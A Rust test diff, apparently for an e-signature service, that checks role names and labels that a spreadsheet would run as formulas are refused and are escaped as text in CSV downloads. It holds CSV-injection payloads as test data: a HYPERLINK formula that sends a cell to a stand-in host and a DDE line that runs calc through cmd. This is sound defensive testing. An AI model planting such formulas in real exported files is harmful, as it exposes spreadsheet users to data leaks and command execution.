@@ -277,3 +277,213 @@ async fn a_list_is_cancelled_from_its_progress_page() {
     assert_eq!(rows, ["CANCELLED"; 3]);
     assert_eq!(count(&app, DOCUMENTS, account).await, before);
 }
+
+/// A one-page PDF showing `text` in Helvetica at the top left, as someone else's PDF with a
+/// text tag would.
+fn pdf_showing(text: &str) -> Vec<u8> {
+    use lopdf::{
+        Document, Object, Stream,
+        content::{Content, Operation},
+        dictionary,
+    };
+    let mut doc = Document::with_version("1.7");
+    let pages_id = doc.new_object_id();
+    let font = doc.add_object(dictionary! {
+        "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica",
+    });
+    let content = Content {
+        operations: vec![
+            Operation::new("BT", vec![]),
+            Operation::new("Tf", vec!["F1".into(), 12.into()]),
+            Operation::new("Td", vec![72.into(), 700.into()]),
+            Operation::new("Tj", vec![Object::string_literal(text)]),
+            Operation::new("ET", vec![]),
+        ],
+    };
+    let contents = doc.add_object(Stream::new(dictionary! {}, content.encode().unwrap()));
+    let page = doc.add_object(dictionary! {
+        "Type" => "Page",
+        "Parent" => pages_id,
+        "MediaBox" => vec![0.into(), 0.into(), 612.into(), 792.into()],
+        "Resources" => dictionary! { "Font" => dictionary! { "F1" => font } },
+        "Contents" => contents,
+    });
+    doc.objects.insert(
+        pages_id,
+        Object::Dictionary(dictionary! {
+            "Type" => "Pages", "Count" => 1, "Kids" => vec![page.into()],
+        }),
+    );
+    let catalog = doc.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages_id });
+    doc.trailer.set("Root", catalog);
+    let mut bytes = Vec::new();
+    doc.save_to(&mut bytes).unwrap();
+    bytes
+}
+
+/// CSV injection (issue #48): a role name a spreadsheet would run as a formula is refused
+/// wherever a role is named (an update, a template made from a document, by `roles` or after a
+/// recipient, a text tag in an uploaded PDF), as is a label beginning with `-`, and nothing
+/// changes; a template that holds such a name from before the rule gets a header download whose
+/// cells are marked as text, and that header uploaded back still names the role's columns.
+#[tokio::test]
+async fn names_a_spreadsheet_would_run_are_refused_and_never_written_as_formulas() {
+    let app = TestApp::spawn().await;
+    let (account, key) = app.account(1000).await;
+    let template = template(&app, account, &key, &[("ann@example.com", "Tenant")]).await;
+    let (_, before) = app.get(&format!("/templates/{template}"), &key).await;
+    let role_reason = "a role's name may not begin with =, +, -, @ or ' (a spreadsheet would \
+                       take the CSV header's cell for a formula or a text mark)";
+    let label_reason = "a label may not begin with - (a spreadsheet would take the CSV header's cell for a formula)";
+    let hyperlink = r#"=HYPERLINK("http://x/"&A2)"#;
+    let calc = "@SUM(1+1)*cmd|' /C calc'!A0";
+
+    let roles = |name: &str, label: &str| {
+        serde_json::json!({"roles": [{"name": name, "role": "SIGNER", "fields": [
+            {"label": label, "type": "TEXT", "page": 1, "x": 72, "y": 100}]}]})
+    };
+    for (body, field, reason) in [
+        (roles(hyperlink, "Company"), "roles[0].name", role_reason),
+        (roles(calc, "Company"), "roles[0].name", role_reason),
+        (roles("+Tenant", "Company"), "roles[0].name", role_reason),
+        (
+            roles("Tenant", "-Rent"),
+            "roles[0].fields[0].label",
+            label_reason,
+        ),
+    ] {
+        let answer = signet_tests::read(
+            app.call(
+                reqwest::Method::PATCH,
+                &format!("/templates/{template}"),
+                Some(&key),
+                Some(&body),
+            )
+            .await,
+        )
+        .await;
+        assert_eq!(answer.0, 400, "{body}: {}", answer.1);
+        assert_eq!(
+            answer.1["errors"],
+            serde_json::json!([{"field": field, "reason": reason}]),
+            "{body}"
+        );
+    }
+    let (_, after) = app.get(&format!("/templates/{template}"), &key).await;
+    assert_eq!(after["data"]["roles"], before["data"]["roles"]);
+
+    // Made from a document: a role named so in `roles`, or after a recipient named so.
+    let source =
+        crate::sender_workflow::draft(&app, account, &key, &[("bob@example.com", "SIGNER", None)])
+            .await;
+    let (status, answer) = app
+        .post(
+            "/templates",
+            &key,
+            &serde_json::json!({"documentId": source, "roles": {"bob@example.com": calc}}),
+        )
+        .await;
+    assert_eq!(status, 400, "{answer}");
+    assert_eq!(
+        answer["errors"],
+        serde_json::json!([{"field": "roles.bob@example.com", "reason": role_reason}])
+    );
+    let (status, answer) = app
+        .post(
+            &format!("/documents/{source}/recipients"),
+            &key,
+            &serde_json::json!([{"name": "=1+1", "email": "cy@example.com", "role": "SIGNER"}]),
+        )
+        .await;
+    assert_eq!(status, 200, "a recipient's name is theirs: {answer}");
+    let (status, answer) = app
+        .post(
+            "/templates",
+            &key,
+            &serde_json::json!({"documentId": source}),
+        )
+        .await;
+    assert_eq!(status, 400, "{answer}");
+    assert_eq!(
+        answer["errors"][0]["field"], "roles.cy@example.com",
+        "{answer}"
+    );
+    assert!(
+        answer["errors"][0]["reason"]
+            .as_str()
+            .unwrap()
+            .ends_with("the recipient's name does; name their role in roles"),
+        "{answer}"
+    );
+    let (status, answer) = app
+        .post(
+            "/templates",
+            &key,
+            &serde_json::json!({"documentId": source, "roles": {"cy@example.com": "Guarantor"}}),
+        )
+        .await;
+    assert_eq!(status, 200, "named in roles, it is taken: {answer}");
+
+    // A text tag in an uploaded PDF is named with its text.
+    let (status, answer) = signet_tests::read(
+        app.client
+            .post(format!(
+                "{}/external/api/v1/templates?fields=tags",
+                app.base
+            ))
+            .header("X-API-KEY", &key)
+            .header("Content-Type", "application/pdf")
+            .body(pdf_showing(&format!("{{{{text:{calc}}}}}")))
+            .send()
+            .await
+            .unwrap(),
+    )
+    .await;
+    assert_eq!(status, 400, "{answer}");
+    assert_eq!(answer["errors"][0]["field"], "tags[0]", "{answer}");
+    assert!(
+        answer["errors"][0]["reason"]
+            .as_str()
+            .unwrap()
+            .ends_with(role_reason),
+        "{answer}"
+    );
+    let made: i64 = sqlx::query_scalar("SELECT count(*) FROM templates WHERE account_id = $1")
+        .bind(account)
+        .fetch_one(&app.db.pool)
+        .await
+        .unwrap();
+    assert_eq!(made, 2, "the first template and the one named in roles");
+
+    // A name stored before the rule: the header download marks each of its cells as text.
+    sqlx::query("UPDATE template_roles SET name = $1 WHERE template_id = $2")
+        .bind(hyperlink)
+        .bind(Uuid::parse_str(&template).unwrap())
+        .execute(&app.db.pool)
+        .await
+        .unwrap();
+    let mut browser = Browser::signed_in_as(&app, account).await;
+    let header_csv = browser
+        .get(&format!("/app/templates/{template}/bulk-sends/header.csv"))
+        .await;
+    assert_eq!(header_csv.status, 200);
+    let marked = |part: &str| format!(r#""'=HYPERLINK(""http://x/""&A2).{part}""#);
+    let header = ["name", "email", "countryCode", "phoneNumber", "language"]
+        .map(marked)
+        .join(",");
+    assert_eq!(header_csv.body, format!("{header}\r\n"));
+    // Uploaded back with a row, its columns are the role's.
+    let (status, answer) = crate::bulk_sends::post_csv(
+        &app,
+        &key,
+        &template,
+        "dryRun=true&message=Please%20sign&expiryDate=2099-01-01T00:00:00Z",
+        format!("{header}\r\nAnn,ann@example.com,,,\r\n"),
+    )
+    .await;
+    assert_eq!(status, 200, "{answer}");
+    assert_eq!(
+        answer["data"],
+        serde_json::json!({"valid": true, "rows": 1})
+    );
+}
